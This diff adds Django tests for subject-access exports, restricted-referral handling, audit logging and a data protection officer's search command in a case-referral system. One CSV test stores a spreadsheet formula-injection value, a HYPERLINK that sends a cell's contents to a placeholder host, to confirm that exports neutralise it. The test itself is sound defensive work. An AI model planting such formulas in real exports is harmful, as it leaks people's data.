@@ -147,3 +147,104 @@ def test_erasure_leaves_no_name_or_free_text_in_the_audit_log_the_casework_or_th
     stored = _everything_stored()
     assert not [s for s in [*secrets, "Acacia", "Norwich"] if s in stored]
     assert Rescue.objects.get(referral=r).police_force == "Norfolk"  # the figures stay
+
+
+# ------------------------------------------------------------------------- 4, 5, 9: subject access
+def test_the_export_leaves_out_a_restricted_referral_not_opened_and_audits_each_one_exported(w):
+    import json
+
+    a = make_case(w, provider=w.pa)
+    b = make_case(w, provider=w.pa)
+    RiskNote.objects.create(
+        referral=b, level="high", text="SECRET-RISK", review_on=timezone.localdate(), created_by=w.cw_a
+    )
+    b.restricted = True
+    b.save()
+    b.allowed_staff.add(w.cw_a2)
+    m = client(w.mgr_a)
+    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
+    assert [i["referral"][0]["reference"] for i in data["referrals"]] == [a.reference]
+    assert "SECRET-RISK" not in json.dumps(data) and data["left_out"].startswith("1 restricted")
+    assert not AuditLog.objects.filter(object_id=str(b.pk)).exists()
+    assert AuditLog.objects.filter(object_id=str(a.pk), action="subject access export").count() == 1
+    # once opened by break-glass, it is exported too, with its own audit row
+    assert (
+        m.post(
+            reverse("referrals:break_glass", args=[b.pk]), {"reason": "Subject access request"}
+        ).status_code
+        == 302
+    )
+    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
+    assert len(data["referrals"]) == 2 and not data["left_out"]
+    for r in (a, b):
+        assert AuditLog.objects.filter(object_id=str(r.pk), action="subject access export").count() == (
+            2 if r is a else 1
+        )
+
+
+def test_the_csv_export_neutralises_formulas(w):
+    r = make_case(w, provider=w.pa)
+    r.concerns = '=HYPERLINK("http://x.invalid/?"&B2,"click")'
+    r.save()
+    body = client(w.mgr_a).get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
+    assert "\"'=HYPERLINK" in body and '"=HYPERLINK' not in body
+
+
+def test_the_data_protection_officers_search_finds_every_referral_in_any_state_and_audits_each(w, tmp_path):
+    import json
+    import os
+    from io import StringIO
+
+    from django.core.management import CommandError, call_command
+
+    from vru.web.referrals import services
+    from vru.web.referrals.models import SubjectAccessRequest, YoungPerson
+
+    name = "Ottoline Searchable"
+    made = [
+        make_case(w, provider=w.pa, name=name),
+        make_case(w, status="declined", name=name),
+        make_case(w, status="submitted", name=name),
+        make_case(w, status="submitted", kind="intelligence", name=name),
+        make_case(w, status="draft", name=name),
+    ]
+    other = make_case(w, name="Someone Else")
+    dob = YoungPerson.objects.get(referral=made[0]).date_of_birth.isoformat()
+    dpo = base.user("dpo@example.org")
+    out = tmp_path / "sar.json"
+    args = ["--name", "  ottoline   SEARCHABLE ", "--dob", dob, "--user", dpo.email]
+    call_command(
+        "referrals_subject_access",
+        *args,
+        "--reason",
+        "Letter of 3 May, ref DP-7",
+        "--out",
+        str(out),
+        stderr=StringIO(),
+    )
+    assert oct(os.stat(out).st_mode & 0o777) == "0o600"
+    data = json.loads(out.read_text())
+    assert sorted(i["referral"][0]["reference"] for i in data["referrals"]) == sorted(
+        r.reference for r in made
+    )
+    sar = SubjectAccessRequest.objects.get()
+    assert sar.user == dpo and sar.referrals.count() == 5
+    rows = AuditLog.objects.filter(action="subject access export (DPO)")
+    assert sorted(rows.values_list("object_id", flat=True)) == sorted(str(r.pk) for r in made)
+    assert all(f"request {sar.pk}" in a.purpose and "DP-7" not in a.purpose for a in rows)
+    assert not AuditLog.objects.filter(object_id=str(other.pk)).exists()
+    for bad, says in (
+        (["--reason", "short"], "--reason"),
+        (["--reason", "A proper reason", "--dob", "3 May"], "--dob"),
+        (["--reason", "A proper reason", "--user", "nobody@example.org"], "--user"),
+    ):
+        given = dict(zip(args[::2], args[1::2], strict=True))
+        given.update(dict(zip(bad[::2], bad[1::2], strict=True)))
+        with pytest.raises(CommandError, match=says):
+            call_command(
+                "referrals_subject_access", *[x for kv in given.items() for x in kv], stdout=StringIO()
+            )
+    # erasure blanks the request's reason
+    services.anonymise(made[1])
+    sar.refresh_from_db()
+    assert sar.reason == "[erased]"
